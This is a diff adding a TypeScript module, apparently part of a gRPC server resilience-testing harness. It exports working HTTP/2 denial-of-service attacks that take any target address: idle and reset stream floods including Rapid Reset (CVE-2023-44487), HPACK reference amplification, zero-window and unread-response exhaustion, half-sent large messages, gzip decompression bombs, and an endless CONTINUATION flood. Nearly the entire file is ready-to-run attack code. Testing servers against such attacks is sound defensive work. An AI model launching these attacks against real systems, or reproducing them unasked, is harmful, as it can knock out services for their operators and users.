@@ -1,0 +1,185 @@
+import { gzipSync } from "node:zlib"
+import {
+  CONTINUATION,
+  DATA,
+  END_HEADERS,
+  END_STREAM,
+  frame,
+  HEADERS,
+  indexedFields,
+  plainFields,
+  preface,
+  prefixed,
+  reference,
+  requestFields,
+  reset,
+  settings,
+  settingsAck,
+  uint32,
+  type Field,
+} from "../raw-frames.ts"
+import {
+  attackOn,
+  bidiOf,
+  serverStreamingOf,
+  unaryOf,
+  type Attack,
+  type AttackOptions,
+  type HostileConnection,
+} from "./attack.ts"
+
+const BATCH_BYTES = 65_536
+/** Beyond what any server should take on one connection; then the attacker waits. */
+const MOST_STREAMS = 40_000
+
+/**
+ * Opens a connection and makes calls of one kind on it, by header blocks of a
+ * few bytes that refer to the first.
+ */
+async function callAfterCall(
+  connection: HostileConnection,
+  fields: readonly Field[],
+  { window, most = MOST_STREAMS }: { window?: number; most?: number },
+  call: (streamId: number, headers: (flags: number) => Buffer) => Buffer,
+): Promise<void> {
+  const first = indexedFields(fields)
+  const again = Buffer.from(fields.map((_, i) => reference(fields.length - 1 - i)))
+  await connection.send(Buffer.concat([preface, settings(window), settingsAck]))
+  let batch: Buffer[] = []
+  let bytes = 0
+  for (let i = 0; i < most && !connection.closed; i += 1) {
+    const streamId = 2 * i + 1
+    const block = i === 0 ? first : again
+    const frames = call(streamId, (flags) => frame(HEADERS, END_HEADERS | flags, streamId, block))
+    batch.push(frames)
+    bytes += frames.length
+    if (bytes < BATCH_BYTES) continue
+    await connection.send(Buffer.concat(batch))
+    batch = []
+    bytes = 0
+  }
+  await connection.send(Buffer.concat(batch))
+}
+
+/** Calls that are opened, send nothing, and stay. */
+export const openStreams: Attack = (address, options) =>
+  attackOn(address, options, (connection) =>
+    callAfterCall(connection, requestFields(bidiOf(options).path), {}, (_id, headers) =>
+      headers(0),
+    ),
+  )
+
+/** Endless answers are asked for, and no byte of them may be sent. */
+export const zeroWindowRanges: Attack = (address, options) => {
+  const { path, message } = serverStreamingOf(options)
+  return attackOn(address, options, (connection) =>
+    callAfterCall(connection, requestFields(path), { window: 0 }, (id, headers) =>
+      Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message))]),
+    ),
+  )
+}
+
+/** Unary calls whose answers are never taken from the socket. */
+export const unreadUnaryCalls: Attack = (address, options) => {
+  const { path, message } = unaryOf(options)
+  return attackOn(
+    address,
+    options,
+    (connection) =>
+      callAfterCall(connection, requestFields(path), { most: 1e9 }, (id, headers) =>
+        Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message))]),
+      ),
+    { reads: false },
+  )
+}
+
+/** Calls of methods that nobody offers, by long paths. */
+export const unknownPaths: Attack = (address, options) =>
+  attackOn(address, options, (connection) =>
+    callAfterCall(
+      connection,
+      requestFields(`/no.such.Service/${"x".repeat(2000)}`),
+      { most: 1e9 },
+      (_id, headers) => headers(END_STREAM),
+    ),
+  )
+
+/** CVE-2023-44487: calls that are opened and reset at once. */
+export const rapidReset: Attack = (address, options) => {
+  const { path, message } = unaryOf(options)
+  return attackOn(address, options, (connection) =>
+    callAfterCall(connection, requestFields(path), { most: 1e9 }, (id, headers) =>
+      Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message)), reset(id)]),
+    ),
+  )
+}
+
+/** A field of 4,000 bytes is kept, and each call refers to it 14 times: 56 kB of headers by 20 bytes. */
+export const hpackReferences: Attack = (address, options) =>
+  attackOn(address, options, async (connection) => {
+    const start = [preface, settings(), settingsAck]
+    await connection.send(Buffer.concat(start))
+    const bomb = indexedFields([["x", "y".repeat(3950)]])
+    const fields = plainFields(requestFields(bidiOf(options).path))
+    const again = Buffer.alloc(14, reference(0))
+    let streamId = 1
+    let block = Buffer.concat([fields, bomb])
+    while (streamId < 2 * MOST_STREAMS && !connection.closed) {
+      const batch: Buffer[] = []
+      for (let i = 0; i < 400; i += 1) {
+        batch.push(frame(HEADERS, END_HEADERS, streamId, block))
+        block = Buffer.concat([fields, again])
+        streamId += 2
+      }
+      await connection.send(Buffer.concat(batch))
+    }
+  })
+
+/** Requests of which all but the last byte comes, as large as a server takes. */
+export const halfMessages: Attack = (address, options) => {
+  const { path } = unaryOf(options)
+  const chunk = Buffer.alloc(16_384)
+  const start = Buffer.concat([Buffer.from([0]), uint32(4_000_000), Buffer.alloc(9000)])
+  return attackOn(address, options, async (connection) => {
+    await callAfterCall(connection, requestFields(path), { most: 1000 }, (id, headers) =>
+      Buffer.concat([headers(0), frame(DATA, 0, id, start)]),
+    )
+    // What flow control lets through is the server's to decide: the rest is only sent where it may be.
+    for (let round = 0; round < 240; round += 1)
+      for (let i = 0; i < 1000 && !connection.closed; i += 1)
+        await connection.send(frame(DATA, 0, 2 * i + 1, chunk))
+  })
+}
+
+/** Messages of 4 kB that unpack to just below 4 MiB, of calls that stay open. */
+export const gzipBombs: Attack = (address, options) =>
+  bombs(address, options, gzipSync(Buffer.alloc(4_190_000)))
+
+/** Messages of 100 kB that unpack to 100 MB. */
+export const largeGzipBombs: Attack = (address, options) =>
+  bombs(address, options, gzipSync(Buffer.alloc(100_000_000)).subarray(0, 65_000))
+
+function bombs(address: string, options: AttackOptions, bomb: Buffer) {
+  const { path } = unaryOf(options)
+  const message = prefixed(bomb, { compressed: true })
+  const fields: Field[] = [...requestFields(path), ["grpc-encoding", "gzip"]]
+  return attackOn(address, options, (connection) =>
+    callAfterCall(connection, fields, { most: 10_000 }, (id, headers) => {
+      const frames = [headers(0)]
+      for (let at = 0; at < message.length; at += 16_384)
+        frames.push(frame(DATA, 0, id, message.subarray(at, at + 16_384)))
+      return Buffer.concat(frames)
+    }),
+  )
+}
+
+/** A call whose headers never end. */
+export const continuationFlood: Attack = (address, options) =>
+  attackOn(address, options, async (connection) => {
+    const block = plainFields(requestFields(unaryOf(options).path))
+    await connection.send(Buffer.concat([preface, settings(), settingsAck]))
+    await connection.send(frame(HEADERS, 0, 1, block))
+    const more = frame(CONTINUATION, 0, 1, plainFields([["x", "y"]]))
+    const batch = Buffer.concat(Array.from({ length: 1000 }, () => more))
+    while (!connection.closed) await connection.send(batch)
+  })
